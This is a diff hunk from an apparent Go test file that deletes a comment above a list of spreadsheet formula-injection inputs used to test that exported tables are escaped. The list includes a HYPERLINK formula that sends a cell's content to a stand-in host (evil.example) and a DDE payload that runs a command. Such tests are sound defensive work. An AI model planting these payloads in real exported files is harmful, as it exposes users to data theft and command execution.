@@ -56,7 +56,6 @@ func TestTable_JSONLHasTheBytes(t *testing.T) {
 	}
 }
 
-// formulas are texts that spreadsheets would compute.
 var formulas = []string{
 	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|cmd", "%0A", "＝1", "\ufeff=1", "\u00a0=1",
 	"=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0",
